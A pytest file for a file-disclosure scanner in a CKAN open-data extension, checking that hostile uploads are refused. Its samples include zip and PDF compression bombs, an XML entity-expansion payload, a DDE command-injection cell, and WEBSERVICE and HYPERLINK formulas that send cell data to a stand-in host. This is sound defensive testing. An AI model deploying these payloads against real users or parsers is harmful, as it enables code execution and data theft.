"""What is hostile is refused by what it is, and so is what is larger than a scan may be."""

from __future__ import annotations

import struct
import time
import zlib

import pytest

from ckanext.satudata_pontianak.disclosure import engine
from ckanext.satudata_pontianak.disclosure.engine import scan_file
from ckanext.satudata_pontianak.disclosure.limits import MEGABYTE, Limits
from ckanext.satudata_pontianak.disclosure.reasons import NEEDS_PERSON, Reason, worse
from ckanext.satudata_pontianak.disclosure.report import Verdict
from ckanext.satudata_pontianak.disclosure.sandbox import scan_in_child

from . import made

BOMB = b"0" * (60 * MEGABYTE)
ENTITIES = (
    '<!DOCTYPE a [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><a>&b;</a>'
)
DDE = "=cmd|'/C calc'!A0"


def deep_zip(levels: int) -> bytes:
    data = made.csv()
    for _ in range(levels):
        data = made.zipped({"a.zip" if data.startswith(b"PK") else "a.csv": data})
    return data


def overlapping() -> bytes:
    """Two names for the same bytes, as the densest bombs have."""
    data = bytearray(made.zipped({"a.csv": made.csv(), "b.csv": made.csv()}))
    first, second = (data.find(b"PK\x01\x02"), data.rfind(b"PK\x01\x02"))
    data[second + 42 : second + 46] = data[first + 42 : first + 46]
    return bytes(data)


def hidden_bytes() -> bytes:
    """An archive with a file that its table of contents does not name."""
    one, two = made.zipped({"a.csv": "a,b\n1,2\n"}), made.zipped({"b.csv": made.csv()})
    table = one.find(b"PK\x01\x02")
    body, rest = one[:table], bytearray(one[table:])
    between = two[: two.find(b"PK\x01\x02")]
    end = rest.find(b"PK\x05\x06")
    rest[end + 16 : end + 20] = struct.pack("<I", len(body) + len(between))
    return body + between + bytes(rest)


def emptied() -> bytes:
    """An archive whose table of contents says that its file is empty."""
    data = bytearray(made.zipped({"a.csv": made.csv(), "b.csv": "a,b\n1,2\n"}))
    at = data.find(b"PK\x01\x02") + 20
    data[at : at + 8] = bytes(8)
    return bytes(data)


def encrypted() -> bytes:
    data = bytearray(made.zipped({"a.csv": made.csv()}))
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        data[data.find(mark) + at] |= 1
    return bytes(data)


def pdf_bomb() -> bytes:
    packed = zlib.compress(b"(x) Tj " * (20 * MEGABYTE))
    stream = b"<</Length %d/Filter/FlateDecode>>stream\n%s\nendstream" % (len(packed), packed)
    return made.pdf(["x"], more=[stream])


def tall_ods() -> bytes:
    row = "<table:table-cell table:number-columns-repeated='16000'><text:p>x</text:p>"
    more = f"<table:table-row table:number-rows-repeated='1000000'>{row}</table:table-cell>"
    return made.ods(made.ROWS, more + "</table:table-row>")


def with_part(name: str, content: bytes | str = b"x", data: bytes | None = None) -> bytes:
    return made.zipped({**made.unzipped(data or made.xlsx()), name: content})


def macro_sheet() -> bytes:
    """Turn the sheet of an old workbook into one of Excel 4 macros."""
    data = made.xls()
    at = data.find(b"\x85\x00")
    return data[: at + 9] + b"\x01" + data[at + 10 :]


HOSTILE = {
    "bomb.zip": (lambda: made.zipped({"a.csv": BOMB}), "compression_bomb"),
    "bomb in zip.zip": (
        lambda: made.zipped({"a.zip": made.zipped({"a.csv": BOMB})}), "compression_bomb"),
    "overlapping.zip": (overlapping, "compression_bomb"),
    "hidden.zip": (hidden_bytes, "broken_file"),
    "emptied.zip": (emptied, "broken_file"),
    "behind.zip": (lambda: made.archive() + b"\0" * 4 + made.csv() * 4, "broken_file"),
    "deep.zip": (lambda: deep_zip(5), "too_large"),
    "encrypted.zip": (encrypted, "encrypted"),
    "program.zip": (lambda: made.zipped({"a.csv": "a,b\n", "b.exe": b"MZ\x90\0"}), "program"),
    "program.exe": (lambda: b"MZ\x90\0", "program"),
    "program.pdf": (lambda: b"\x7fELF\x02", "program"),
    "app.jar": (lambda: made.zipped({"a.class": b"\xca\xfe\xba\xbe"}), "program"),
    "empty.zip": (lambda: made.zipped({}), "no_content"),
    "entities.xlsx": (lambda: with_part("xl/x.xml", ENTITIES), "entities"),
    "entities.docx": (lambda: with_part("word/x.xml", ENTITIES, made.docx()), "entities"),
    "entities.ods": (lambda: with_part("x.xml", ENTITIES, made.ods()), "entities"),
    "macro.xlsm": (lambda: with_part("xl/vbaProject.bin"), "macro"),
    "macro.docx": (lambda: with_part("word/vbaProject.bin", data=made.docx()), "macro"),
    "macro.ods": (lambda: with_part("Basic/Standard/M.xml", "<a/>", made.ods()), "macro"),
    "macro.xls": (macro_sheet, "macro"),
    "dde.ods": (lambda: made.ods(made.ROWS, "<table:dde-source/>"), "formula"),
    "dde.xlsx": (lambda: made.xlsx([("a", "b"), ("x", DDE)]), "formula"),
    "web.xlsx": (lambda: made.xlsx([("a",), ('=WEBSERVICE("http://x/"&A1)',)]), "formula"),
    "link.xlsx": (lambda: with_part("xl/externalLinks/a.xml", "<a><ddeLink/></a>"), "formula"),
    "dde.csv": (lambda: made.csv([("a", "b"), ("x", DDE)]), "formula"),
    "quoted.csv": (lambda: made.csv([(f'a;"{DDE}"',), ("x;y",)]), "formula"),
    "link.csv": (lambda: b'a,b\n1,"=HYPERLINK(""http://x/?""&A1,""a"")"\n', "formula"),
    "plus.csv": (lambda: b"a,b\n1,+WEBSERVICE(A1)\n", "formula"),
    "script.pdf": (lambda: made.pdf(catalog=b"/OpenAction<</S/JavaScript/JS(x)>>"), "macro"),
    "launch.pdf": (lambda: made.pdf(catalog=b"/OpenAction<</S/Launch/F(x)>>"), "macro"),
    "bomb.pdf": (pdf_bomb, "compression_bomb"),
    "cut.pdf": (lambda: made.pdf()[:-300], "broken_file"),
    "deep.json": (lambda: b"[" * 100_000, "too_large"),
    "cut.json": (lambda: b'{"a":1', "broken_file"),
    "digits.json": (lambda: b'{"a":' + b"9" * 10_000 + b"}", "broken_file"),
    "exponent.json": (lambda: b'{"a":1e' + b"9" * 30 + b"}", "broken_file"),
    "twice.json": (lambda: b'{"a":1}}', "broken_file"),
    "tall.ods": (tall_ods, "too_large"),
    "cut.parquet": (lambda: made.parquet()[:-9], "broken_file"),
    "cut.sqlite": (lambda: made.sqlite()[:-4096], "broken_file"),
    "cut.xls": (lambda: made.xls()[:3000], "broken_file"),
    "cut.jpg": (lambda: made.picture()[:20], "broken_file"),
    "cut.dbf": (lambda: made.dbf()[:-20], "broken_file"),
    "cut.shp": (lambda: made.shp()[:-4], "broken_file"),
}  # fmt: skip


@pytest.mark.parametrize("name", HOSTILE)
def test_what_is_hostile_or_broken_is_refused_by_its_reason(scan_bytes, name):
    make, reason = HOSTILE[name]
    start = time.monotonic()
    report = scan_bytes(make(), name)
    assert (report.verdict, report.reason.code) == (Verdict.FAILED, reason), report.reason
    assert reason not in NEEDS_PERSON - {"no_content"}
    assert time.monotonic() - start < 20


@pytest.mark.parametrize(
    "cell",
    [
        "-5",
        "+62 812",
        "=1+2",
        "=SUM(A1:A9)",
        '"=""0812"""',
        "-",
        "@pontianak",
        "a|b",
        "=A1|x",
        "(+)",
    ],
)
def test_ordinary_cells_are_no_attack(scan_bytes, cell):
    assert scan_bytes(f"a;b;c\nx;{cell};z\n".encode()).verdict is Verdict.CLEAR


def test_formulas_of_a_workbook_are_no_attack(scan_bytes):
    rows = [("a", "b"), ("x", '=HYPERLINK("https://pontianak.go.id";"situs")'), ("y", "=SUM(A1)")]
    assert scan_bytes(made.xlsx(rows), "a.xlsx").verdict is Verdict.CLEAR


def test_tables_without_end_are_no_database(tmp_path):
    path = tmp_path / "a.sqlite"
    path.write_bytes(made.sqlite(made.ROWS, "CREATE TABLE b (a)", "CREATE TABLE c (a)"))
    assert scan_file(path, limits=Limits(parts=3)).verdict is Verdict.FINDINGS
    assert scan_file(path, limits=Limits(parts=2)).reason.code == "too_large"


def test_a_view_of_a_database_runs_nothing(scan_bytes):
    endless = "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT n FROM r"
    data = made.sqlite([("a",), ("x",)], f"CREATE VIEW v AS {endless}")
    assert scan_bytes(data, "a.sqlite").verdict is Verdict.CLEAR


def test_a_computed_column_of_a_database_runs_nothing(scan_bytes):
    column = "CREATE TABLE c (a, b AS (zeroblob(60000000)) VIRTUAL)"
    data = made.sqlite([("a",), ("x",)], column, *["INSERT INTO c (a) VALUES (1)"] * 9)
    assert scan_bytes(data, "a.sqlite").verdict is Verdict.CLEAR


def test_what_archives_hold_together_is_limited(tmp_path):
    inner = made.zipped({f"{i}.csv": made.csv() * 1_000 for i in range(4)})
    path = tmp_path / "a.zip"
    path.write_bytes(made.zipped({f"{i}.zip": inner for i in range(4)}))
    assert scan_file(path).verdict is Verdict.FINDINGS
    small = scan_file(path, limits=Limits(unpacked=700_000))
    assert (small.reason.code, small.reason.params) == ("too_large", {"limit": "unpacked"})
    few = scan_file(path, limits=Limits(parts=15))
    assert (few.reason.code, few.reason.params) == ("too_large", {"limit": "parts"})


def test_a_member_of_many_blocks_is_read_to_its_last_row(tmp_path):
    lines = b"".join(b"Pontianak Kota,%07d,%07d\n" % (n, n * 7) for n in range(400_000))
    data = b"kecamatan,a,b\n" + lines + b"x,%s,1\n" % made.NIK.encode()
    path = tmp_path / "a.zip"
    path.write_bytes(made.zipped({"a.csv": data}))
    report = scan_in_child(path, limits=Limits(wall_seconds=60))
    assert report.tables[0].rows == 400_001
    assert [f.kind for f in report.findings] == ["nik"]


def test_the_worst_reason_is_given():
    person, broken = Reason("no_text"), Reason("broken_file")
    assert worse(None, person) is person
    assert worse(person, broken) is broken
    assert worse(broken, person) is broken
    assert worse(broken, Reason("macro")) is broken


@pytest.mark.parametrize("fault", [ValueError("6171014107800003"), MemoryError()])
def test_what_fails_after_the_last_row_is_said_and_not_raised(scan_bytes, monkeypatch, fault):
    def fail(*_: object) -> None:
        raise fault

    monkeypatch.setattr(engine, "judge", fail)
    report = scan_bytes(b"nik,nama\n6171014107800003,Budi\n")
    assert report.verdict is Verdict.FAILED
    assert report.reason.code in ("crashed", "out_of_memory")
    assert "6171014107800003" not in str(report.to_json())
